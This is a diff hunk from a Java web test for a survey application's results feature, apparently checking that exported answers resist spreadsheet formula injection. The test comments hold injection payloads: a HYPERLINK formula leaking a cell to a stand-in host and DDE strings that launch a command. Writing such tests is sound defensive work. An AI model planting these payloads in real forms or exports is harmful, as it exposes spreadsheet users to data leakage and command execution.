@@ -138,7 +138,8 @@ class ResultsWebTest extends WebTestSupport {
     Api manager = api.as(managerToken);
     String id = manager.post("/api/surveys", Map.of("name", "CSAT", "template", "CSAT_SUPPORT")).text("id");
     String token = manager.post("/api/surveys/" + id + "/publish", null).text("publicToken");
-    answer(token, Map.of("csat", 1, "resolved", "yes", "comment", "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")"));
+    answer(token, Map.of("csat", 1, "resolved", "yes",
+        "comment", "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")"));
     answer(token, Map.of("csat", 2, "resolved", "yes", "comment", "@SUM(1+1)*cmd|' /C calc'!A0"));
     answer(token, Map.of("csat", 3, "resolved", "yes", "comment", "-2+3+cmd|' /C calc'!A0"));
     answer(token, Map.of("csat", 4, "resolved", "yes", "comment", "+1"));
